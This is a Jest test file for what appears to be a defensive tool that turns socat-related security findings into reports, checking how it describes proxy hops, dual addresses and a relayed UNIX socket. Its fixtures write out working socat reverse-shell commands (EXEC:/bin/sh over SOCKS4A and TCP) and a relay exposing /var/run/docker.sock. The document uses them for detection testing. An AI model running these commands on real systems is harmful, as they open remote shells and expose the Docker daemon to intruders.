/**
 * What the report tells people about socat's endpoint beyond host and port:
 * the proxy the pod really talks to, both halves of a dual address, a bridged
 * UNIX socket and an argv socat refuses. In the description, the source
 * properties, the fan-out message and `show`.
 */
import { describe, expect, it } from '@jest/globals';
import { viewFromReport } from '../../lib/cli/view.js';
import { fanoutMessage } from '../../lib/fanout.js';
import { parseNotification } from '../../lib/finding/parse.js';
import { analyzeFinding } from '../../lib/report/analyze.js';
import { describeC2 } from '../../lib/report/render.js';
import { reportProperties } from '../../lib/scc/properties.js';
import { parseSocatArgs } from '../../lib/socat/args.js';
import { notificationFixture } from '../support/fixtures.js';

function reportFor(args: string[]) {
  const n = notificationFixture('socat-v2');
  const socat = n.finding.processes.find((p: { name: string }) => p.name === 'socat');
  socat.args = args;
  return analyzeFinding(parseNotification(n));
}

const SOCKS = ['socat', 'EXEC:/bin/sh', 'SOCKS4A:45.33.32.156:127.0.0.1:4444,socksport=1080'];

describe('the endpoint in words', () => {
  it.each([
    [SOCKS, 'reverse shell connecting out to socks 127.0.0.1:4444 through the proxy 45.33.32.156:1080 running /bin/sh'],
    [['socat', 'TCP:203.0.113.5:443!!TCP:198.51.100.7:80', 'EXEC:sh'], 'reverse shell connecting out to tcp 203.0.113.5:443 running sh; also connecting to 198.51.100.7:80'],
    [['socat', 'TCP-LISTEN:2375,fork', 'UNIX-CONNECT:/var/run/docker.sock'], 'relay between tcp port 2375 and the UNIX socket /var/run/docker.sock'],
    [['socat', 'TCP:1.2.3.4:1', 'NOPE:x'], 'socat arguments socat itself refuses at start-up'],
  ])('%j', (args, words) => {
    expect(describeC2(parseSocatArgs(args))).toContain(words);
  });
});

describe('the proxy hop reaches every place the report goes', () => {
  const report = reportFor(SOCKS);

  it('source properties name the hop with its scope and every peer', () => {
    const props = reportProperties(report);
    expect(props.B9_C2_Hop).toBe('45.33.32.156:1080 (public)');
    expect(props.B9_C2_Peers).toBe('connect socks 127.0.0.1:4444 via 45.33.32.156:1080');
    expect(props.B1_C2).toContain('through the proxy 45.33.32.156:1080');
  });

  it('the fan-out message carries the hop', () => {
    const msg = fanoutMessage(report, null);
    expect(msg.c2.hop).toEqual({ host: '45.33.32.156', port: 1080 });
    expect(msg.c2.description).toContain('through the proxy');
  });

  it('show, from a stored report, says it too', () => {
    expect(viewFromReport(JSON.parse(JSON.stringify(report))).what).toContain('through the proxy 45.33.32.156:1080');
  });
});
